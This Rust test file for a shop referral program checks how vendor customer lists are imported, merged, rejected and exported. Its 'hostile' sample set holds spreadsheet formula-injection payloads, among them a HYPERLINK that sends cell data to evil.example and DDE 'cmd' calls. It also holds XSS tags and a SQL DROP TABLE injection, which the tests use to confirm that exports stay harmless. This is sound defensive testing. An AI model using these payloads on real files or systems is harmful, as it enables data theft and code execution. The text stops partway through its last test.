//! Lists as shops have them: what each gives, what is refused and why, and text that means harm.

use std::path::{Path, PathBuf};

use counterfoil_core::desk::export::List;
use counterfoil_core::desk::import::{Column, ImportAsk, ImportKind, ImportReport};
use counterfoil_core::desk::leads::NewLead;
use counterfoil_core::desk::people::NewCode;
use counterfoil_core::desk::redeem::{Override, RedeemAsk};
use counterfoil_core::desk::views::{Progress, RulesView};
use counterfoil_core::desk::{Customer, DeskError};

use crate::support::*;

/// Copies a list of the fixtures into the shop's folder, so that what is rejected lands there.
fn copied(shop: &Shop, list: &str) -> PathBuf {
    let copy = shop.path().join(list);
    std::fs::copy(fixture("lists").join(list), &copy).unwrap();
    copy
}

fn country(two: &str) -> Shop {
    Shop::with(&counterfoil_core::desk::shop::NewShop { country: Some(two.into()), ..new_shop() })
}

type Person<'a> = (&'a str, Option<&'a str>, Option<&'a str>, Option<&'a str>);

/// Name, e-mail, phone and code as they are kept.
type Kept = (String, Option<String>, Option<String>, Option<String>);

fn people(shop: &Shop) -> Vec<Kept> {
    let behind = shop.behind();
    let sql = "SELECT name, email, phone, (SELECT text FROM referral_code WHERE referrer_n = referrer.n) FROM referrer ORDER BY n";
    let mut statement = behind.prepare(sql).unwrap();
    let rows = statement.query_map([], |row| Ok((row.get(0)?, row.get(1)?, row.get(2)?, row.get(3)?))).unwrap();
    rows.collect::<Result<_, _>>().unwrap()
}

#[track_caller]
fn assert_people(shop: &Shop, expected: &[Person<'_>]) {
    let owned = |text: &Option<&str>| text.map(str::to_owned);
    let expected: Vec<_> = expected.iter().map(|(name, email, phone, code)| ((*name).to_owned(), owned(email), owned(phone), owned(code))).collect();
    assert_eq!(people(shop), expected);
}

#[track_caller]
fn assert_counts(report: &ImportReport, rows: u32, added: u32, rejected: &[(u32, &str)]) {
    let found: Vec<(u32, &str)> = report.rejected.iter().map(|row| (row.row, row.reason.as_str())).collect();
    assert_eq!((report.rows, report.added, found), (rows, added, rejected.to_vec()));
    assert_eq!(report.added + report.updated + report.unchanged + report.rejected_total, report.rows);
    assert_eq!(report.rejected_file.is_some(), report.rejected_total + report.noted_total > 0);
}

#[track_caller]
fn assert_noted(report: &ImportReport, expected: &[(u32, &str)]) {
    let found: Vec<(u32, &str)> = report.noted.iter().map(|row| (row.row, row.reason.as_str())).collect();
    assert_eq!((report.noted_total as usize, found), (expected.len(), expected.to_vec()));
    assert!(report.noted.iter().all(|row| row.sentence.ends_with('.') && !row.sentence.starts_with("rejected.")), "{:?}", report.noted);
}

#[track_caller]
fn check(two: &str, list: &str, rows: u32, rejected: &[(u32, &str)], expected: &[Person<'_>]) {
    let mut shop = country(two);
    let copy = copied(&shop, list);
    let report = shop.import_file(&copy, ImportKind::Referrers);
    assert_counts(&report, rows, expected.len() as u32, rejected);
    assert_people(&shop, expected);
    shop.assert_sound();
}

// One list a vendor. The numbers are those that the lists write, in E.164.

#[test]
fn square() {
    check(
        "GB",
        "square.csv",
        6,
        &[],
        &[
            ("Jane Whitfield", Some("jane.whitfield@salon.example"), Some("+442079460101"), None),
            ("Omar Haddad", Some("OMAR@haddad.example"), Some("+442079460102"), None),
            ("+442079460103", None, Some("+442079460103"), None),
            ("Siobhán O'Neill", Some("siobhan@oneill.example"), None, None),
            ("=Evil @SUM(1+1)", Some("evil@formula.example"), None, None),
            ("Wen Li", Some("wen.li@tea.example"), Some("+442079460106"), None),
        ],
    );
}

#[test]
fn shopify() {
    check(
        "DE",
        "shopify.csv",
        6,
        &[],
        &[
            ("Lena Brandt", Some("lena@brandt.example"), Some("+4915155500201"), None),
            ("Tom Becker", Some("tom.becker@werkstatt.example"), None, None),
            ("Aïcha Diallo", Some("aicha@diallo.example"), Some("+33655500203"), None),
            ("guest", Some("guest@checkout.example"), None, None),
            ("Núria Puig", None, Some("+34655500205"), None),
            ("Åsa Lindström", Some("asa@lindstrom.example"), Some("+46705550206"), None),
        ],
    );
}

#[test]
fn stripe() {
    check(
        "PT",
        "stripe.csv",
        6,
        // Hannah Cole left neither address nor number.
        &[(4, "no_contact")],
        &[
            ("Maria Ribeiro", Some("maria@ribeiro.example"), None, Some("K7MQ-4RTX")),
            ("Piotr Zieliński", Some("piotr@zielinski.example"), None, None),
            ("noname", Some("noname@guest.example"), None, None),
            ("Mensah, Kofi", Some("kofi@mensah.example"), None, None),
            ("Inès Moreau", Some("ines@moreau.example"), None, None),
        ],
    );
}

#[test]
fn mailchimp() {
    check(
        "GB",
        "mailchimp.csv",
        6,
        &[],
        &[
            ("Ruth Abara", Some("ruth@garden.example"), Some("+442079460301"), None),
            ("Devi Patel", Some("devi@patel.example"), None, None),
            ("Lou", Some("UPPER@CASE.EXAMPLE"), Some("+445550100303"), None),
            ("noname", Some("noname@list.example"), None, None),
            ("Jürgen Weiß", Some("jurgen@weiss.example"), Some("+497319400305"), None),
            ("Ann van 't Hooft", Some("ann@anna.example"), None, None),
        ],
    );
}

#[test]
fn referral_factory() {
    check(
        "GB",
        "referral_factory.csv",
        6,
        &[],
        &[
            ("Amara", Some("amara@okafor.example"), None, Some("ueONFmUp")),
            ("Ben", Some("ben@novak.example"), None, Some("Qm2xLd7A")),
            ("Chloé", Some("chloe@petit.example"), None, Some("pR0oIl1Z")),
            ("Dilan", Some("dilan@kaya.example"), None, None),
            ("eve", Some("eve@nobody.example"), None, Some("00123456")),
            // `-xYz_9aB` has an underscore, which Stripe's alphabet has not: Farid is in without it.
            ("Farid", Some("farid@aziz.example"), None, None),
        ],
    );
}

#[test]
fn a_german_list_with_semicolons_in_windows_1252() {
    check(
        "DE",
        "german_semicolon_1252.csv",
        6,
        &[],
        &[
            ("Jörgine Müller", Some("joergine@mueller.example"), Some("+491515550401"), None),
            ("Björn Groß", Some("bjoern@gross.example"), None, None),
            ("Zoé Lefèvre", None, Some("+491715550403"), None),
            ("Firma Bäckerei Süß – Söhne", Some("info@suess.example"), Some("+491515550404"), None),
            ("Çem Yildiz", Some("cem@yildiz.example"), None, None),
            ("Änne Öztürk", Some("aenne@oeztuerk.example"), Some("+491605550406"), None),
        ],
    );
}

#[test]
fn a_list_with_tabs_in_utf_16() {
    check(
        "ES",
        "utf16.tsv",
        6,
        &[],
        &[
            ("Lucía García Núñez", Some("lucia@garcia.example"), Some("+34655550501"), Some("LUCIA10")),
            ("Iván Peña", Some("ivan@pena.example"), None, Some("IVAN10")),
            ("Zoë Łukasik", Some("zoe@lukasik.example"), Some("+48655550503"), Some("ZOE10")),
            ("李 小龍", Some("li@kungfu.example"), Some("+34655550504"), None),
            ("Ана Петрова", Some("ana@petrova.example"), None, Some("ANA10")),
            ("Begoña", Some("begona@sola.example"), Some("+34655550506"), None),
        ],
    );
}

#[test]
fn line_breaks_inside_cells() {
    check(
        "GB",
        "quoted_breaks.csv",
        6,
        &[],
        &[
            ("Ann \"Annie\" Lee", Some("ann@lee.example"), Some("+442079460601"), None),
            ("Bo Roe", Some("bo@roe.example"), Some("+442079460602"), None),
            ("Roe, Cara", Some("cara@roe.example"), Some("+442079460603"), None),
            ("Dee Fox", Some("dee@fox.example"), None, None),
            ("Eli Hart", Some("eli@hart.example"), None, None),
            ("Fay 6\" Moss", Some("fay@moss.example"), Some("+442079460606"), None),
        ],
    );
}

#[test]
fn a_list_with_broken_rows_keeps_the_good_ones_and_names_the_others() {
    let mut shop = Shop::open();
    let copy = copied(&shop, "broken_rows.csv");
    let report = shop.import_file(&copy, ImportKind::Referrers);
    // Eli's address is none; Hal's is HTML and his number a formula. The row of commas is no row.
    assert_counts(&report, 9, 7, &[(9, "not_usable"), (13, "not_usable")]);
    let names: Vec<String> = people(&shop).into_iter().map(|person| person.0).collect();
    assert_eq!(names, ["Ann Lee", "Bo Roe", "Cara Fox", "Dee Hart", "Fay Nunn", "Gus, the Baker", "Ida Poe"]);

    // What was rejected stands beside the list with row number and reason, and can be mended and imported.
    let saved = shop.path().join("broken_rows.rejected.csv");
    assert_eq!(report.rejected_file.as_deref(), saved.to_str());
    let rows = read_back(&saved);
    // One row has two cells more than there are headings.
    assert_eq!(rows[0], ["Full name", "Email", "Mobile", "Column 4", "Column 5", "Row", "Reason"]);
    assert_eq!(rows[1][..6], ["Eli Moss", "not an address", "", "", "", "9"]);
    assert_eq!(rows[2][5], "13");
    assert!(rows[1][6].ends_with('.'));
    let mended = std::fs::read_to_string(&saved).unwrap().replace("not an address", "eli@moss.example");
    let report = shop.import("mended.csv", &mended);
    assert_eq!((report.rows, report.added, report.rejected_total), (2, 1, 1));
}

#[test]
fn a_workbook() {
    check(
        "GB",
        "numbers.xlsx",
        7,
        // A row with something in it, but no contact.
        &[(9, "no_contact")],
        &[
            ("Ann Lee", Some("ann@lee.example"), Some("+447911123456"), Some("20240001")),
            ("Bo Roe", Some("bo@roe.example"), Some("+442079460802"), Some("00123456")),
            ("Cara Fox & Co", Some("cara@fox.example"), Some("+442079460803"), None),
            ("Dee Hart", Some("dee@hart.example"), None, Some("DEE-10")),
            ("Eli Moss", None, Some("+445550100000"), None),
            ("Fay Nunn", Some("fay@nunn.example"), None, None),
        ],
    );
}

#[test]
fn every_list_can_be_a_list_of_customers() {
    // Contacts that can be told apart: addresses and numbers of rows that name at least one.
    for (list, rows, contacts) in [("square.csv", 6, 9), ("shopify.csv", 6, 9), ("mailchimp.csv", 6, 9), ("utf16.tsv", 6, 10)] {
        let mut shop = Shop::open();
        let copy = copied(&shop, list);
        let report = shop.import_file(&copy, ImportKind::Customers);
        assert_eq!((report.rows, report.added, report.rejected_total), (rows, rows, 0), "{list}");
        assert_eq!(shop.desk.status().unwrap().known_customers, contacts, "{list}");
        assert_eq!(shop.count("SELECT count(*) FROM referrer"), 0);
        let again = shop.import_file(&copy, ImportKind::Customers);
        assert_eq!((again.added, again.unchanged), (0, rows), "{list}");
    }
}

// What becomes of people

#[test]
fn a_later_list_updates_a_phone_and_keeps_the_rest() {
    let mut shop = Shop::open();
    shop.import("may.csv", "Name,Email,Phone\nJane Whitfield,jane@salon.example,020 7946 0101\n");
    let report = shop.import("june.csv", "Email,Phone\nJANE@salon.example,020 7946 0202\n");
    assert_eq!((report.added, report.updated, report.unchanged), (0, 1, 0));
    assert_people(&shop, &[("Jane Whitfield", Some("jane@salon.example"), Some("+442079460202"), None)]);
    let found = shop.desk.find("0202").unwrap();
    assert_eq!((found.len(), shop.desk.find("0101").unwrap().len()), (1, 0));
}

#[test]
fn a_later_list_updates_a_name_and_the_search_follows() {
    let mut shop = Shop::open();
    shop.import("may.csv", "Name,Email\nJane Whitfield,jane@salon.example\n");
    shop.import("june.csv", "Name,Email\nJane Brandt,jane@salon.example\n");
    assert_eq!((shop.desk.find("brandt").unwrap().len(), shop.desk.find("whitfield").unwrap().len()), (1, 0));
    shop.assert_sound();
}

#[test]
fn the_same_person_twice_in_a_list_is_one_person() {
    let mut shop = Shop::open();
    let list = "Name,Email,Phone\nJane W,jane@salon.example,\nJane Whitfield,JANE@Salon.example,020 7946 0101\n,jane+news@salon.example,\nJ.,,+44 20 7946 0101\n";
    let report = shop.import("twice.csv", list);
    // The second row brings the number, the other two nothing new.
    assert_eq!((report.rows, report.added, report.updated, report.unchanged), (4, 1, 1, 2));
    assert_people(&shop, &[("Jane W", Some("jane@salon.example"), Some("+442079460101"), None)]);
}

#[test]
fn two_rows_that_a_third_one_joins_are_one_person() {
    let mut shop = Shop::open();
    let list = "Name,Email,Phone\nJane,jane@salon.example,\nJ Whitfield,,020 7946 0101\nJane Whitfield,jane@salon.example,020 7946 0101\n";
    let report = shop.import("joined.csv", list);
    assert_eq!((report.rows, report.added, report.updated), (3, 1, 2));
    assert_people(&shop, &[("Jane", Some("jane@salon.example"), Some("+442079460101"), None)]);
    assert_eq!(shop.desk.find("whitfield").unwrap().len(), 0);
    shop.assert_sound();
}

/// The first and third row share nothing but the second: one person with two addresses and one number.
#[test]
fn a_chain_of_contacts_is_one_person() {
    for list in [
        "Name,Email,Phone\nJane,jane@salon.example,020 7946 0101\nJane,jane@home.example,020 7946 0101\nJane,jane@home.example,\n",
        "Name,Email,Phone\nJane,jane@home.example,\nJane,jane@salon.example,020 7946 0101\nJane,jane@home.example,020 7946 0101\n",
    ] {
        let mut shop = Shop::open();
        let report = shop.import("chain.csv", list);
        assert_eq!((report.rows, report.rejected_total), (3, 0));
        assert_eq!(shop.count("SELECT count(*) FROM referrer"), 1, "{:?}", people(&shop));
        assert_eq!(report.added, 1);
        let again = shop.import("chain.csv", list);
        assert_eq!((again.added, again.updated, again.unchanged), (0, 0, 3));
        shop.assert_sound();
    }
}

/// Once a number is somebody else's, rows mean others than they did: the first import must go as far as a second one would.
#[test]
fn a_list_that_moves_numbers_between_known_people_is_done_after_one_import() {
    let mut shop = Shop::open();
    shop.import("before.csv", "Name,Email,Phone\nDi,d@list.example,020 7946 0003\nAnn,a@list.example,020 7946 0004\n");
    let list = "Name,Email,Phone\n,a@list.example,020 7946 0003\n,d@list.example,020 7946 0001\nCy,,020 7946 0004\n";
    let report = shop.import("moved.csv", list);
    assert_counts(&report, 3, 1, &[]);
    assert_eq!(report.updated, 2);
    assert_people(
        &shop,
        &[
            ("Di", Some("d@list.example"), Some("+442079460001"), None),
            ("Ann", Some("a@list.example"), Some("+442079460003"), None),
            ("Cy", None, Some("+442079460004"), None),
        ],
    );
    let again = shop.import("moved.csv", list);
    assert_eq!((again.added, again.updated, again.unchanged), (0, 0, 3));
    shop.assert_sound();
}

#[test]
fn people_with_history_are_never_joined_by_a_list() {
    let mut shop = Shop::open();
    let (_, code) = shop.jane();
    shop.referrer("Omar", None, Some("020 7946 0202"));
    let report = shop.import("odd.csv", "Name,Email,Phone\nJane Whitfield,jane@salon.example,020 7946 0202\n");
    assert_eq!((report.added, report.updated, report.unchanged), (0, 0, 1));
    assert_eq!(shop.count("SELECT count(*) FROM referrer"), 2);
    assert!(shop.check(&code, 100, walk_in()).allowed);
}

/// Whoever can be reached is in. What else stands in the row and can't be used is said, each thing by itself.
#[test]
fn one_unusable_cell_costs_nobody_and_is_said() {
    let mut shop = Shop::open();
    let list = "Name,Email,Phone,Code,Link\n\
        Ann,ann@list.example,call me,ANN_1,ann.example/x\n\
        Bo,bo@list.example,123,,ftp://bo.example\n\
        Cy,cy at list,020 7946 0003,,\n\
        Di,di@list.example,020 7946 0004,DI-10,https://di.example/x\n";
    let noted = [
        (2, "phone_not_usable"),
        (2, "code_not_usable"),
        (2, "link_not_usable"),
        (3, "phone_not_usable"),
        (3, "link_not_usable"),
        (4, "email_not_usable"),
    ];
    for added in [4, 0] {
        let report = shop.import("cells.csv", list);
        assert_counts(&report, 4, added, &[]);
        assert_eq!(report.unchanged, 4 - added);
        assert_noted(&report, &noted);
        let saved = read_back(Path::new(report.rejected_file.as_deref().unwrap()));
        assert_eq!(saved.len(), 1 + noted.len());
        assert_eq!(saved[1][..6], ["Ann", "ann@list.example", "call me", "ANN_1", "ann.example/x", "2"]);
    }
    assert_people(
        &shop,
        &[
            ("Ann", Some("ann@list.example"), None, None),
            ("Bo", Some("bo@list.example"), None, None),
            ("Cy", None, Some("+442079460003"), None),
            ("Di", Some("di@list.example"), Some("+442079460004"), Some("DI-10")),
        ],
    );
    // Of customers the contacts alone matter.
    let path = shop.path().join("cells.csv");
    assert_noted(&shop.import_file(&path, ImportKind::Customers), &[(2, "phone_not_usable"), (3, "phone_not_usable"), (4, "email_not_usable")]);
    shop.assert_sound();
}

#[test]
fn codes_are_kept_and_never_taken_from_somebody() {
    let mut shop = Shop::open();
    let report =
        shop.import("codes.csv", "Name,Email,Code\nJane,jane@salon.example,Jane-10\nOmar,omar@haddad.example,JANE10\nIda,ida@poe.example,ok\n");
    assert_counts(&report, 3, 3, &[]);
    assert_noted(&report, &[(3, "code_taken"), (4, "code_not_usable")]);
    assert_eq!(shop.check("jane10", 100, walk_in()).code.as_deref(), Some("Jane-10"));
    // Another code for somebody who has one is not taken silently; the rest of the row is.
    let other = "Name,Email,Phone,Code\nJane,jane@salon.example,020 7946 0101,JANE20\nIda,ida@poe.example,,IDA10\n";
    for updated in [2, 0] {
        let report = shop.import("other.csv", other);
        assert_counts(&report, 2, 0, &[]);
        assert_eq!((report.updated, report.unchanged), (updated, 2 - updated));
        assert_noted(&report, &[(2, "other_code")]);
        let saved = std::fs::read_to_string(report.rejected_file.unwrap()).unwrap();
        assert!(saved.contains("JANE20") && !saved.contains("IDA10"), "{saved}");
    }
    assert_eq!(shop.check("JANE20", 100, walk_in()).code, None);
    assert_eq!(people(&shop)[0].2.as_deref(), Some("+442079460101"));
    // Jane and Ida have codes; Omar, whose code was Jane's, gets one now.
    assert_eq!(shop.desk.generate_all(&mut |_| true).unwrap(), 1);
}

#[test]
fn marks_that_vendors_put_before_numbers_are_taken_off() {
    let mut shop = Shop::open();
    shop.import(
        "marks.csv",
        "Name,Phone\nA,'+442079460101\nB,'02079460102\nC,\"=\"\"02079460103\"\"\"\nD,tel:+44-20-7946-0104\nE,4.42079460105E+11\n",
    );
    let phones: Vec<_> = people(&shop).into_iter().map(|person| person.2.unwrap()).collect();
    assert_eq!(phones, ["+442079460101", "+442079460102", "+442079460103", "+442079460104", "+442079460105"]);
}

// Looks, cancels, files

fn files(folder: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().file_name().into_string().unwrap()).collect();
    names.retain(|name| !name.starts_with("counterfoil.db"));
    names.sort();
    names
}

#[test]
fn a_dry_run_tells_the_same_and_changes_nothing() {
    let mut shop = Shop::open();
    let copy = copied(&shop, "broken_rows.csv");
    let ask = ImportAsk { dry_run: true, ..import_ask(&copy, ImportKind::Referrers) };
    let told = shop.desk.import(&ask, &mut |_| true).unwrap();
    assert_eq!((shop.count("SELECT count(*) FROM referrer"), shop.count("SELECT count(*) FROM search_word")), (0, 0));
    assert_eq!((files(shop.path()), told.rejected_file.clone()), (vec!["broken_rows.csv".to_owned()], None));
    let done = shop.import_file(&copy, ImportKind::Referrers);
    assert_eq!((told.rows, told.added, told.rejected), (done.rows, done.added, done.rejected));
}

#[test]
fn a_cancelled_import_leaves_nothing_behind() {
    let mut shop = Shop::open();
    let rows: String = (0..5_000).map(|n| if n % 7 == 0 { "Nobody,\n".to_owned() } else { format!("P {n},p{n}@shop.example\n") }).collect();
    let list = shop.path().join("long.csv");
    std::fs::write(&list, format!("Name,Email\n{rows}")).unwrap();
    let audit = shop.count("SELECT count(*) FROM audit");
    let mut seen = 0;
    let cancelled = shop.desk.import(&import_ask(&list, ImportKind::Referrers), &mut |progress| {
        seen = progress.done;
        progress.done < 1_000
    });
    assert_eq!(fault(cancelled), "cancelled");
    assert!((1_000..5_000).contains(&seen), "cancelled in the middle: {seen}");
    assert_eq!((shop.count("SELECT count(*) FROM referrer"), shop.count("SELECT count(*) FROM audit")), (0, audit));
    assert_eq!(files(shop.path()), ["long.csv"]);
    // And then the whole of it goes in.
    assert_eq!(shop.import_file(&list, ImportKind::Referrers).added, 5_000 - 715);
    shop.assert_sound();
}

/// Once the people are in, an import is not told as a fault, whatever becomes of the list of rejected rows.
#[test]
fn an_import_whose_list_of_rejected_rows_cannot_be_saved_says_so_and_stands() {
    let mut shop = Shop::open();
    let list = shop.path().join("half.csv");
    std::fs::write(&list, "Name,Email\nJane,jane@salon.example\nNobody,\n").unwrap();
    // A folder of that name comes up while the list is read.
    let in_the_way = shop.path().join("half.rejected.csv");
    let report = shop
        .desk
        .import(&import_ask(&list, ImportKind::Referrers), &mut |_| {
            std::fs::create_dir_all(in_the_way.join("full")).unwrap();
            true
        })
        .unwrap();
    assert_eq!((report.added, report.rejected_total, report.rejected_file.as_deref()), (1, 1, None));
    assert!(report.rejected_unsaved.unwrap().contains("half.rejected.csv"));
    assert_eq!(files(shop.path()), ["half.csv", "half.rejected.csv"]);
    assert_eq!(shop.count("SELECT count(*) FROM referrer"), 1);
    shop.assert_sound();
}

#[test]
fn what_is_no_list_is_said_to_be_none() {
    let mut shop = Shop::open();
    let mut refuse = |name: &str, bytes: &[u8]| {
        let path = shop.path().join(name);
        std::fs::write(&path, bytes).unwrap();
        fault(shop.desk.import(&import_ask(&path, ImportKind::Referrers), &mut |_| true))
    };
    assert_eq!(refuse("empty.csv", b""), "sheet_empty");
    assert_eq!(refuse("picture.csv", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"), "sheet_not_a_table");
    assert_eq!(refuse("broken.xlsx", b"PK\x03\x04 and nothing more"), "sheet_not_a_table");
    assert_eq!(refuse("no_contact.csv", b"Colour,Size\nred,12\n"), "sheet_no_contact_column");
    assert_eq!(fault(shop.desk.import(&import_ask(Path::new("/nowhere/list.csv"), ImportKind::Referrers), &mut |_| true)), "file");
    assert_eq!(shop.count("SELECT count(*) FROM referrer"), 0);
}

#[test]
fn a_person_may_correct_what_columns_mean() {
    let mut shop = Shop::open();
    let list = shop.path().join("odd.csv");
    std::fs::write(&list, "Alpha,Beta,Gamma\nWhitfield,jane@salon.example,Jane\n").unwrap();
    let ask = ImportAsk {
        mapping: Some(vec![Some(Column::LastName), Some(Column::Email), Some(Column::FirstName)]),
        ..import_ask(&list, ImportKind::Referrers)
    };
    assert_eq!(shop.desk.import(&ask, &mut |_| true).unwrap().added, 1);
    assert_people(&shop, &[("Jane Whitfield", Some("jane@salon.example"), None, None)]);
}

// Text that means harm

/// Formulas, HTML, text that runs the other way, characters that can't be seen, braces of our own sentences, and too much.
fn hostile() -> Vec<String> {
    let mut texts: Vec<String> = [
        "=HYPERLINK(\"https://evil.example?\"&A1,\"x\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+A1+A2",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
        "＋A1",
        "'=1+1",
        " =1+1",
        "\u{200b}=1+1",
        "\u{feff}=1+1",
        "\u{202e}=1+1",
        "\"=1+1",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "\u{202e}gro.live@enaj\u{202c}",
        "z\u{200b}e\u{200d}r\u{2060}o",
        "{name}{day}{",
        "Robert'); DROP TABLE referrer;--",
        "a\0b",
        "\u{1f469}\u{200d}\u{1f469}\u{200d}\u{1f467}",
        "محمد",
        "\u{0301}\u{0302}",
        "%_\\",
        "NEAR(a b) AND \"",
    ]
    .map(str::to_owned)
    .to_vec();
    texts.push("x".repeat(10_240));
    texts.push("=".repeat(10_240));
    texts.push("👩".repeat(2_560));
    texts
}

/// The rows of an exported list, as another program reads it.
#[track_caller]
fn read_back(path: &Path) -> Vec<Vec<String>> {
    let mut bytes = std::fs::read(path).unwrap();
    assert!(bytes.starts_with("\u{feff}".as_bytes()), "Excel needs the mark");
    bytes.drain(..3);
    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(bytes.as_slice());
    reader.records().map(|record| record.unwrap().iter().map(str::to_owned).collect()).collect()
}

/// No cell begins a formula. A sign before nothing but digits and their separators is a number.
#[track_caller]
fn assert_harmless(path: &Path) -> usize {
    let rows = read_back(path);
    for cell in rows.iter().flatten() {
        // What a spreadsheet may strip before it looks.
        let seen = cell.trim_start_matches([' ', '\u{feff}', '\u{200b}', '\u{a0}']);
        let formula = seen.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']);
        let number = seen.starts_with(['+', '-']) && seen[1..].chars().all(|c| c.is_ascii_digit() || " .()-/".contains(c));
        assert!(!formula || number, "{:?} in {}", cell.chars().take(40).collect::<String>(), path.display());
    }
    rows.len()
}

fn export_all(shop: &Shop) -> usize {
    let lists = [(List::Referrers, "referrers.csv"), (List::Leads, "leads.csv"), (List::Redemptions, "redemptions.csv")];
    lists
        .into_iter()
        .map(|(list, name)| {
            let path = shop.path().join(name);
            let rows = shop.desk.export(list, &path, &mut |_| true).unwrap();
            assert_eq!(assert_harmless(&path), rows as usize + 1);
            rows as usize
        })
        .sum()
}

/// A refusal that says what is wrong with the text is as good as taking it.
#[track_caller]
fn taken<T>(result: Result<T, DeskError>) -> Option<T> {
    match result {
        Ok(done) => Some(done),
        Err(error) => {
            let known =
                ["too_long", "not_an_email", "not_a_phone", "code_not_usable", "no_name", "no_contact", "no_reason", "no_manager", "contact_taken"];
            assert!(known.contains(&error.code()), "{error:?}");
            let sentence = error.fault(counterfoil_core::sentences::Language::default()).sentence;
            assert!(sentence.chars().count() < 600, "a fault repeats {} characters", sentence.chars().count());
            None
        }
    }
}

#[test]
fn hostile_text_in_every_field_of_a_list() {
    let mut shop = Shop::open();
    let list = shop.path().join("hostile.csv");
    let mut out = csv::Writer::from_path(&list).unwrap();
    out.write_record(["Name", "Email", "Phone", "Code", "Link"]).unwrap();
    let mut rows = 0;
    for (n, text) in hostile().iter().enumerate() {
        let (email, phone, code) = (format!("h{n}@hostile.example"), format!("020 7946 {n:04}"), format!("HOST{n}"));
        let link = "https://shop.example/x";
        for field in 0..5 {
            let mut row = [
                format!("Name {field}"),
                format!("{field}{email}"),
                phone.replace("7946", &format!("79{field}6")),
                format!("{code}{field}"),
                link.to_owned(),
            ];
            row[field].clone_from(text);
            out.write_record(&row).unwrap();
            rows += 1;
        }
    }
    drop(out);
    let report = shop.import_file(&list, ImportKind::Referrers);
    assert_eq!((report.rows, report.added + report.updated + report.unchanged + report.rejected_total), (rows, rows));
    // A name that can't be kept is refused; what is only ugly is kept.
    assert!(report.added > rows / 2, "{} of {rows}", report.added);
    assert_harmless(Path::new(report.rejected_file.as_deref().unwrap()));
    shop.desk.generate_all(&mut |_| true).unwrap();
    assert_eq!(export_all(&shop), report.added as usize);
    assert_eq!(shop.count("SELECT count(*) FROM referrer WHERE length(name) > 200 OR name GLOB '*[' || char(0x200b) || char(0x202e) || ']*'"), 0);
    let again = shop.import_file(&list, ImportKind::Referrers);
    assert_eq!((again.added, again.updated), (0, 0));
    shop.assert_sound();
}

#[test]
fn hostile_text_in_every_field_at_the_till() {
    let mut shop = Shop::with_rules(RulesView { redemptions_max: Some(10_000), ..RulesView::default() });
    let (jane, code) = shop.jane();
    let (mut sales, mut leads) = (0, 0);
    for (n, text) in hostile().iter().enumerate() {
        let some = || Some(text.clone());
        // Searching, checking and counting never fail on text.
        shop.desk.find(text).unwrap();
        shop.check(text, 100, walk_in());
        shop.desk
            .leads(&counterfoil_core::desk::leads::LeadsAsk {
                search: text.clone(),
                show: counterfoil_core::desk::leads::LeadsShown::All,
                after: None,
                rows_max: 10,
            })
            .unwrap();

        taken(shop.desk.add_referrer(&referrer(text, Some(&format!("n{n}@salon.example")), None, NewCode::None)));
        taken(shop.desk.add_referrer(&referrer("Name", Some(text), None, NewCode::None)));
        taken(shop.desk.add_referrer(&referrer("Name", None, Some(text), NewCode::None)));
        taken(shop.desk.add_referrer(&referrer("Name", Some(&format!("c{n}@salon.example")), None, NewCode::Own { text: text.clone() })));

        let named = Customer { name: some(), email: Some(format!("s{n}@customer.example")), phone: None };
        let asks = [
            sale(&code, 100, named.clone()),
            sale(&code, 100, Customer { email: some(), ..Customer::default() }),
            sale(&code, 100, Customer { phone: some(), ..Customer::default() }),
            RedeemAsk { reference: some(), ..sale(&code, 100, named.clone()) },
            RedeemAsk { override_by: Some(Override { manager: text.clone(), note: text.clone() }), ..sale(&code, 100, named) },
        ];
        for ask in asks {
            if let Some(stub) = taken(shop.desk.redeem(&ask)).and_then(|done| done.redemption) {
                sales += 1;
                if sales % 2 == 0 {
                    taken(shop.desk.refund(&refund(&stub, Some(1), text)));
                } else {
                    taken(shop.desk.void(&void(&stub, text)));
                }
            }
        }
        let lead = NewLead {
            op: op(),
            referrer_id: jane.referrer.id.clone(),
            name: text.clone(),
            email: Some(format!("l{n}@lead.example")),
            phone: None,
            note: some(),
            call_back: None,
        };
        leads += u32::from(taken(shop.desk.record_lead(&lead)).is_some());
    }
    assert!(sales > 60 && leads > 15, "{sales} sales, {leads} leads");
    shop.desk.sales_of(None).unwrap();
    shop.desk.person(&jane.referrer.id).unwrap();
    export_all(&shop);
    shop.assert_sound();
}

#[test]
fn an_export_tells_how_far_it_is_and_a_cancelled_one_leaves_what_was_there() {
    let mut shop = Shop::open();
    let rows: String = (0..2_500).map(|n| format!("Person {n},person{n}@list.example\n")).collect();
    shop.import("people.csv", &format!("Name,Email\n{rows}"));
    let path = shop.path().join("list.csv");
    std::fs::write(&path, "the list of last week").unwrap();
    let mut told = Vec::new();
    let cancelled = shop.desk.export(List::Referrers, &path, &mut |Progress { done, total }| {
        told.push((done, total));
        done < 1_000
    });
    assert_eq!(cancelled.unwrap_err().code(), "cancelled");
    assert_eq!(told, [(0, Some(2_500)), (1_000, Some(2_500))]);
    assert_eq!(std::fs::read_to_string(&path).unwrap(), "the list of last week");
    assert!(!path.with_extension("csv.part").exists());

    told.clear();
    let rows = shop.desk.export(List::Referrers, &path, &mut |Progress { done, .. }| {
        told.push((done, None));
        true
    });
    assert_eq!((rows.unwrap(), told.last()), (2_500, Some(&(2_500, None))));
    assert_eq!(assert_harmless(&path), 2_501);
}

/// A list that was exported over the database would be the end of every sale in it.
#[test]
fn no_list_is_written_over_the_records() {
    let shop = Shop::open();
    shop.desk.back_up().unwrap();
    for name in ["counterfoil.db", "counterfoil.db-wal", "backups/copy.DB"] {
        let target = shop.desk.folder().join(name);
        assert_eq!(shop.desk.export(List::Referrers, &target, &mut |_| true).unwrap_err().code(), "among_the_records", "{name}");
    }
    shop.assert_sound();
}

#[test]
fn each_of_many_rows_that_can_not_be_used_is_named() {
    let mut shop = Shop::open();
    let list = shop.path().join("people.csv");
    let rows: String = (0..1_000).map(|n| format!("Person {n},\n")).collect();
    std::fs::write(&list, format!("Name,E-mail\n{rows}")).unwrap();
    let report = shop.import_file(&list, ImportKind::Referrers);
